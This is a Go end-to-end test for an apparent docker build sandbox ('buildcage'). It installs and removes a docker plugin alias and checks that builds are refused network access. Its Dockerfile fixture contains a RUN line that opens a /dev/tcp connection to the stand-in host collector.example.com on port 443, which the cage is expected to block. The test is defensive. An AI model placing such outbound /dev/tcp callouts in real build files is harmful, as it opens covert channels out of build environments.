package e2e

import (
	"bytes"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// TestPlugin: with the alias, plain docker build is caged, by the real docker
// command; without it, it is docker's own again.
func TestPlugin(t *testing.T) {
	engine(t)
	config := t.TempDir()
	dir := project(t, map[string]string{
		"Dockerfile": `FROM buildcage-demo:base
SHELL ["/bin/bash", "-c"]
RUN (echo > /dev/tcp/collector.example.com/443) 2>/dev/null || true
`})
	call := func(name string, args ...string) (code int, stderr string) {
		t.Helper()
		cmd := exec.Command(name, args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "DOCKER_CONFIG="+config)
		var b bytes.Buffer
		cmd.Stderr = &b
		err := cmd.Run()
		var exit *exec.ExitError
		if err != nil && !errors.As(err, &exit) {
			t.Fatal(err)
		}
		return cmd.ProcessState.ExitCode(), b.String()
	}
	if code, msg := call(binary, "install-plugin", "--alias"); code != 0 {
		t.Fatalf("exit %d\n%s", code, msg)
	}
	for _, args := range [][]string{{"build"}, {"image", "build"}, {"builder", "build"}, {"cage", "build"}} {
		args = append(args, "--no-cache", "--cage-prefix", prefix(), "--output", "type=cacheonly", ".")
		if code, msg := call("docker", args...); code != 3 || !strings.Contains(msg, "collector.example.com:443") {
			t.Errorf("docker %s: exit %d, want 3 and a refusal\n%s", strings.Join(args, " "), code, tail(msg))
		}
	}
	if code, msg := call(binary, "install-plugin", "--uninstall"); code != 0 {
		t.Fatalf("exit %d\n%s", code, msg)
	}
	if left, err := filepath.Glob(filepath.Join(config, "cli-plugins", "*")); err != nil || len(left) != 0 {
		t.Errorf("left: %v %v", left, err)
	}
	if code, msg := call("docker", "cage", "version"); code == 0 {
		t.Errorf("docker cage is still there\n%s", msg)
	}
}
